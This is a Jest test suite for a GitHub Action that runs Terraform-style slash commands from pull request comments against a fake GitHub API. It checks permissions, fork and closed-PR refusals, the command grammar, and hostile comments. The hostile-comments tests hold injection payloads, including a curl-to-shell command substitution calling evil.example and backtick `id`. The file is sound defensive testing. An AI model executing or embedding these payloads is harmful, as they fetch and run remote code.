import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startFakeGitHub, type FakeGitHubApi } from '../../../packages/testing/src/github/index.js';
import type { RepositoryRole } from '../../../packages/testing/src/github/routes/collaborators.js';
import { runAction } from '../../../packages/testing/src/index.js';
import { RUN_SHA, actionDir, payload } from './fixtures.js';

/** Slash commands against the fake GitHub API: the commenter's permission, the pull request's head, forks, hostile text. */
let github: FakeGitHubApi;
const dirs: string[] = [];
const HEAD = '0123456789abcdef0123456789abcdef01234567';
const FORK_HEAD = 'fedcba9876543210fedcba9876543210fedcba98';
const GRAMMAR = ['plan: [[], [platform], [data-staging]]', 'apply: [[]]', 'bootstrap: [[plan], [apply]]'].join('\n');
const FORMS = '/plan, /plan platform, /plan data-staging, /apply, /bootstrap plan, /bootstrap apply';

beforeAll(async () => {
  github = await startFakeGitHub();
  github.issues.addPull({ number: 42, headSha: HEAD, headRef: 'feature/qa-dashboard' });
  github.issues.addPull({ number: 43, headSha: FORK_HEAD, headRef: 'patch-1', headRepo: 'fork-owner/pipeline-demo' });
  github.issues.addPull({ number: 44, headSha: HEAD, headRef: 'old-work', state: 'closed' });
  for (const role of ['read', 'triage', 'write', 'maintain', 'admin', 'none'] as RepositoryRole[])
    github.collaborators.set(`${role}-user`, role);
  github.server.addIdentity('ghs_metadataonly', {
    login: 'github-actions[bot]',
    id: 41898282,
    type: 'Bot',
    access: 'write',
    installation: true,
    permissions: { metadata: 'read' },
  });
});
afterAll(async () => {
  await github.stop();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

interface Comment {
  body: string;
  login?: string;
  pr?: number;
  association?: string;
}

/** A comment seeded on the fake (so a reaction can land on it) and delivered as the issue_comment payload. */
async function comment(c: Comment, inputs: Record<string, string> = {}, token = 'ghs_writetoken') {
  const pr = c.pr ?? 42;
  const login = c.login ?? 'write-user';
  const seeded = github.issues.seedIssueComment(pr, c.body, { user: { login, id: 77, type: 'User' } });
  const base = payload('issue_comment-pull_request');
  const issue = { ...(base.issue as object), number: pr };
  const event = {
    ...base,
    issue,
    comment: {
      ...(base.comment as object),
      id: seeded.id,
      body: c.body,
      user: { login, id: 77, type: 'User' },
      author_association: c.association ?? 'MEMBER',
    },
    sender: { login, id: 77, type: 'User' },
  };
  const result = await runAction(actionDir, {
    inputs: { token, commands: GRAMMAR, 'pull-request': 'preview', ...inputs },
    eventName: 'issue_comment',
    event,
    env: { GITHUB_API_URL: github.url, GITHUB_SHA: RUN_SHA },
  });
  dirs.push(result.runnerDir);
  const reactions = github.issues.reactions.filter((r) => r.commentId === seeded.id).map((r) => r.content);
  return { ...result, reactions };
}

describe('the commenter’s repository permission', () => {
  it.each(['write', 'maintain', 'admin'])('runs /apply for a %s collaborator', async (role) => {
    const result = await comment({ body: '/apply', login: `${role}-user` });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ 'should-run': 'true', command: 'apply', 'actor-permission': role });
    expect(result.reactions).toEqual([]);
  });

  it.each([
    ['read', "'read-user' has 'read' permission; 'write' or higher is required ('allowed-permission')."],
    ['triage', "'triage-user' has 'triage' permission; 'write' or higher is required ('allowed-permission')."],
    ['none', "'none-user' has no permission on this repository; 'write' or higher is required ('allowed-permission')."],
  ])('refuses /apply from a %s user with a thumbs-down', async (role, why) => {
    const result = await comment({ body: '/apply', login: `${role}-user`, association: 'MEMBER' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ 'should-run': 'false', command: '', 'actor-permission': role, 'head-sha': '' });
    expect(result.outputs.reason).toBe(`Comment on pull request #42 is refused: ${why}`);
    expect(result.notices).toEqual([result.outputs.reason]);
    expect(result.reactions).toEqual(['-1']);
  });

  it('refuses a user GitHub does not know (404) even when author_association says OWNER', async () => {
    const result = await comment({ body: '/apply', login: 'mallory', association: 'OWNER' });
    expect(result.outputs).toMatchObject({ 'should-run': 'false', 'actor-permission': 'none' });
    expect(result.outputs.reason).toContain("'mallory' has no permission on this repository");
  });

  it('applies a stricter allowed-permission', async () => {
    const result = await comment({ body: '/apply', login: 'write-user' }, { 'allowed-permission': 'maintain' });
    expect(result.outputs).toMatchObject({ 'should-run': 'false', 'actor-permission': 'write' });
    expect(result.outputs.reason).toContain("'maintain' or higher is required");
  });

  it('adds no reaction with refusal-reaction: none', async () => {
    const result = await comment({ body: '/apply', login: 'read-user' }, { 'refusal-reaction': 'none' });
    expect(result.outputs['should-run']).toBe('false');
    expect(result.reactions).toEqual([]);
  });

  it('warns, and still refuses, when the token cannot react', async () => {
    const result = await comment({ body: '/apply', login: 'read-user' }, {}, 'ghs_readonlytoken');
    expect(result.exitCode).toBe(0);
    expect(result.outputs['should-run']).toBe('false');
    expect(result.warnings[0]).toMatch(
      /^Could not add a -1 reaction to comment \d+ .*'pull-requests: write', or set 'refusal-reaction: none'\.$/,
    );
  });

  it('fails closed naming the permission when the token cannot read the pull request', async () => {
    const result = await comment({ body: '/apply', login: 'write-user' }, {}, 'ghs_metadataonly');
    expect(result.exitCode).toBe(1);
    expect(result.errors).toHaveLength(1);
    expect(result.errors[0]).toMatch(
      /^Could not read pull request #42 \(HTTP 403: Resource not accessible by integration.*\): give the job's token 'pull-requests: read'/,
    );
    expect(result.outputs).toEqual({});
  });

  it('fails with the fix when no token is given', async () => {
    const result = await comment({ body: '/apply' }, { token: '' });
    expect(result.exitCode).toBe(1);
    expect(result.errors[0]).toContain("Input 'token' is empty");
  });
});

describe('the pull request behind a comment', () => {
  it("describes the pull request's head, not the default branch", async () => {
    const result = await comment({ body: '/plan platform' });
    expect(result.outputs).toMatchObject({
      'should-run': 'true',
      command: 'plan',
      'command-args': 'platform',
      sha: HEAD,
      'short-sha': HEAD.slice(0, 7),
      'ref-name': 'feature/qa-dashboard',
      'head-sha': HEAD,
      'head-ref': 'feature/qa-dashboard',
      'head-repo': 'octo-org/pipeline-demo',
      'is-fork': 'false',
      'pr-state': 'open',
      'base-ref': 'main',
      environment: 'preview',
    });
    expect(result.summary).toContain(
      '- **Pull request:** #42 head `0123456` on `feature/qa-dashboard` (open, same repository) into `main`\n- **Actor:** write-user (write)',
    );
  });

  it("refuses a command on a fork's pull request", async () => {
    const result = await comment({ body: '/apply', pr: 43 });
    expect(result.outputs).toMatchObject({
      'should-run': 'false',
      'is-fork': 'true',
      'head-repo': 'fork-owner/pipeline-demo',
      'head-sha': FORK_HEAD,
    });
    expect(result.outputs.reason).toBe(
      "Comment on pull request #43 is refused: pull request #43 comes from the fork 'fork-owner/pipeline-demo'; commands do not run on forks ('forks: refuse').",
    );
    expect(result.reactions).toEqual(['-1']);
  });

  it("runs a command on a fork's pull request with forks: allow", async () => {
    const result = await comment({ body: '/plan', pr: 43 }, { forks: 'allow' });
    expect(result.outputs).toMatchObject({ 'should-run': 'true', 'is-fork': 'true', sha: FORK_HEAD });
  });

  it('fails closed when the pull request cannot be found', async () => {
    const result = await comment({ body: '/apply', pr: 99 });
    expect(result.exitCode).toBe(1);
    expect(result.errors).toEqual([
      "Pull request #99 was not found in octo-org/pipeline-demo (HTTP 404): the comment's pull request cannot be resolved, so no command runs.",
    ]);
    expect(result.outputs).toEqual({});
  });

  it('refuses a command on a closed pull request', async () => {
    const result = await comment({ body: '/apply', pr: 44 });
    expect(result.outputs).toMatchObject({ 'should-run': 'false', 'pr-state': 'closed' });
    expect(result.outputs.reason).toContain('pull request #44 is closed, not open; commands run only on open pull requests.');
  });
});

describe('the command grammar', () => {
  it.each([
    ['/bootstrap apply', 'bootstrap', 'apply'],
    ['/plan', 'plan', ''],
    ['/plan data-staging', 'plan', 'data-staging'],
  ])('accepts %s', async (body, command, args) => {
    const result = await comment({ body });
    expect(result.outputs).toMatchObject({ 'should-run': 'true', command, 'command-args': args });
  });

  it.each([
    ['/bootstrap destroy', `'/bootstrap destroy' is not an allowed form (allowed: ${FORMS})`],
    ['/bootstrap', `'/bootstrap' is not an allowed form (allowed: ${FORMS})`],
    ['/apply now', `'/apply now' is not an allowed form (allowed: ${FORMS})`],
    ['/destroy', `'/destroy' is not an allowed command (allowed: ${FORMS})`],
    [
      '/apply -auto-approve -var=env=prod',
      `the argument '-auto-approve' of '/apply' is not allowed: arguments are words of letters, digits, '.', '_', '/' and '-', not starting with '-' (allowed: ${FORMS})`,
    ],
  ])('refuses %s with the allowed forms, a notice and exit 0', async (body, why) => {
    const result = await comment({ body });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ 'should-run': 'false', command: '' });
    expect(result.outputs.reason).toBe(`Comment on pull request #42 runs no command: ${why}.`);
    expect(result.notices).toEqual([result.outputs.reason]);
    expect(result.reactions).toEqual(['-1']);
  });

  it('fails a refused command with refuse-unknown: fail', async () => {
    const result = await comment({ body: '/bootstrap destroy' }, { 'refuse-unknown': 'fail' });
    expect(result.exitCode).toBe(1);
    expect(result.errors).toEqual([
      `Comment on pull request #42 runs no command: '/bootstrap destroy' is not an allowed form (allowed: ${FORMS}).`,
    ]);
  });

  it('makes no API call and no notice for a comment that is not a command', async () => {
    const before = github.server.requests.length;
    const result = await comment({ body: 'LGTM, thanks!' });
    expect(result.outputs['should-run']).toBe('false');
    expect(result.notices).toEqual([]);
    expect(github.server.requests.length).toBe(before);
  });

  it('keeps the list form working', async () => {
    const result = await comment({ body: '/plan module.db' }, { commands: 'plan, apply' });
    expect(result.outputs).toMatchObject({ 'should-run': 'true', command: 'plan', 'command-args': 'module.db' });
  });
});

describe('hostile comments', () => {
  it.each([
    ['a 1 MB body', `/apply ${'A'.repeat(1024 * 1024)}`],
    ['a 1 MB first line of spaces', `/apply${' '.repeat(1024 * 1024)}x`],
    ['control characters', '/apply \u0007\u001b[31mred\u0000'],
    ['a command substitution', '/plan $(curl -s evil.example | sh)'],
    ['backticks', '/plan `id`'],
    ['a carriage return', '/apply\rplan'],
    ['a command word with control characters', '/ap\u0000ply'],
  ])('refuses %s, exit 0, with a short printable reason', async (_what, body) => {
    const result = await comment({ body });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ 'should-run': 'false', command: '', 'command-args': '' });
    expect(result.outputs.reason.length).toBeLessThan(400);
    expect(result.outputs.reason).toMatch(/^[\x20-\x7e…]+$/);
    expect(result.outputs.reason).not.toContain('$(');
    expect(result.summary).not.toContain('\u001b');
  });
});
